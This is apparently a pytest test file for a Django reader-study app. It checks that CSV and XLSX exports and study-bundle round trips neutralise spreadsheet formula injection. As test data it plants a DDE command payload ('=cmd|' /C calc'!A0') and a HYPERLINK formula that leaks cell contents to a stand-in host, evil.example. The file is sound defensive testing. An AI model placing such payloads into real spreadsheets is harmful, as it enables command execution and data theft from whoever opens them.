"""Formula injection (issue 11, finding 7): no CSV cell a spreadsheet would run, no XLSX formula.

Shared helpers (:func:`assert_no_formula_cells`, :func:`assert_no_formula_xlsx`) are used by
the export tests of the analysis app too.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from io import StringIO
from pathlib import Path

import pandas as pd
import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.test import Client
from openpyxl import Workbook, load_workbook

from readerstudy.core.spreadsheet import (
    FORMULA_TRIGGERS,
    append_xlsx_row,
    csv_writer,
    neutralise_cell,
    neutralise_text,
    restore_cell,
    restore_series,
)
from readerstudy.studies.models import Reading
from tests.bundles.test_export_study import snapshot
from tests.conftest import READINGS_CSV, BundleFactory

#: A cell that starts with a trigger and is still safe: a plain decimal number.
SAFE_NUMBER = re.compile(
    r"[+-]?(?:(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?|inf|infinity|nan)", re.I
)
CALC = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def assert_no_formula_cells(data: bytes | str, *, where: str = "") -> None:
    """No cell of the CSV ``data`` starts with a formula trigger (except plain numbers)."""
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    for line, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for cell in row:
            if cell[:1] in FORMULA_TRIGGERS and cell:
                assert SAFE_NUMBER.fullmatch(cell), f"{where} line {line}: {cell!r}"


def assert_no_formula_xlsx(data: bytes, *, where: str = "") -> None:
    """No sheet of the workbook ``data`` holds a formula (``<f>`` element or ``t="f"``)."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert sheets, where
        for name in sheets:
            xml = zf.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml and 't="f"' not in xml, (where, name)
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, ws.title, cell.coordinate, cell.value)


PLANTED = [
    CALC,
    HYPERLINK,
    "+1+cmd",
    "-2+3",
    "-2 mm nodule",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''@twice",
    "'plain quote",
    "plain",
    "",
]
NUMBERS = ["-0.5", "+1", "-1e-3", "-.25", "-inf", "+3.", "-0"]


@pytest.mark.parametrize("text", PLANTED + NUMBERS)
def test_neutralised_text_is_restored_exactly(text: str) -> None:
    written = neutralise_text(text)
    assert restore_cell(written) == text
    assert restore_series(pd.Series([written], dtype="str")).tolist() == [text]
    if written:
        assert written[0] not in FORMULA_TRIGGERS or SAFE_NUMBER.fullmatch(written)


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_written_as_text_are_left_alone(text: str) -> None:
    assert neutralise_text(text) == text
    assert neutralise_cell(-0.5) == -0.5 and neutralise_cell(None) is None


def test_the_csv_writer_neutralises_every_text_cell_and_pandas_reads_numbers_back() -> None:
    out = StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["text", "score"])
    writer.writerows([[t, -0.5] for t in PLANTED])
    assert_no_formula_cells(out.getvalue())
    back = pd.read_csv(StringIO(out.getvalue()), keep_default_na=False)
    assert back["score"].dtype == "float64" and (back["score"] == -0.5).all()
    assert back["text"].tolist() == [neutralise_text(t) for t in PLANTED]
    assert back["text"].tolist()[:2] == ["'" + CALC, "'" + HYPERLINK]
    assert [restore_cell(t) for t in back["text"]] == PLANTED


def test_xlsx_rows_store_text_as_strings_never_formulas(tmp_path: Path) -> None:
    for write_only in (True, False):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("data")
        append_xlsx_row(ws, ["text", "score"])
        for text in [*PLANTED, "#N/A"]:
            append_xlsx_row(ws, [text, -0.5])
        path = tmp_path / f"w{write_only}.xlsx"
        wb.save(str(path))
        assert_no_formula_xlsx(path.read_bytes())
        back = pd.read_excel(path, sheet_name="data", keep_default_na=False, na_values=[])
        assert back["text"].tolist()[:6] == PLANTED[:6]
        assert (back["score"] == -0.5).all()


# --- the audit CSV -------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_failed_sign_in_reaches_the_audit_csv_neutralised(client: Client) -> None:
    client.post("/accounts/login/", {"username": CALC, "password": "wrong"})
    root = get_user_model().objects.create_superuser("root", "root@example.org", "pw-root-42!")
    client.force_login(root)
    response = client.get("/audit/?format=csv")
    body = b"".join(response.streaming_content).decode("utf-8")  # type: ignore[attr-defined]
    assert_no_formula_cells(body, where="audit.csv")
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    failed = [r for r in rows if r["action"] == "login_failed"]
    assert [r["target"] for r in failed] == ["'" + CALC]
    assert restore_cell(failed[0]["target"]) == CALC


# --- the study bundle ----------------------------------------------------------------------


@pytest.mark.django_db
def test_a_planted_formula_survives_export_and_import_exactly(
    make_bundle: BundleFactory, tmp_path: Path
) -> None:
    readings = READINGS_CSV.replace('"BI-RADS 5: biopsy"', '"' + HYPERLINK.replace('"', '""') + '"')
    readings = readings.replace("M1,C1,2,5,,BI-RADS 5,", "M1,C1,2,5,-0.5,''=already quoted,")
    readings = readings.replace("M1,C2,1,3,,BI-RADS 3,", "M1,C2,1,3,,@SUM(A1:A9),")
    cases = (
        "case_id,truth,patient_id,split,findings\n"
        "C1,1,=P1,test,-2 mm nodule\nC2,0,P2,test,+1+cmd\nC3,1,P3,train,-0.5\n"
    )
    readers = "reader_id,kind,label\nR1,human,=cmd|' /C calc'!A0\nM1,model,\n"
    call_command(
        "import_study",
        str(make_bundle(readings_csv=readings, cases_csv=cases, readers_csv=readers)),
        stdout=StringIO(),
    )
    # A bundle's leading quote before a trigger is the neutralising one: it goes.
    impressions = set(Reading.objects.values_list("impression", flat=True))
    assert {HYPERLINK, "'=already quoted", "@SUM(A1:A9)"} <= impressions
    first = snapshot("tiny")
    call_command("export_study", "tiny", str(tmp_path / "out"), stdout=StringIO())
    for name in ("cases.csv", "readers.csv", "readings.csv", "ratings.csv", "images.csv"):
        text = (tmp_path / "out" / name).read_text(encoding="utf-8")
        assert_no_formula_cells(text, where=name)
    readings_out = (tmp_path / "out" / "readings.csv").read_text(encoding="utf-8")
    assert "''=already quoted" in readings_out and ",-0.5," in readings_out
    call_command("import_study", str(tmp_path / "out"), "--replace", stdout=StringIO())
    assert snapshot("tiny") == first
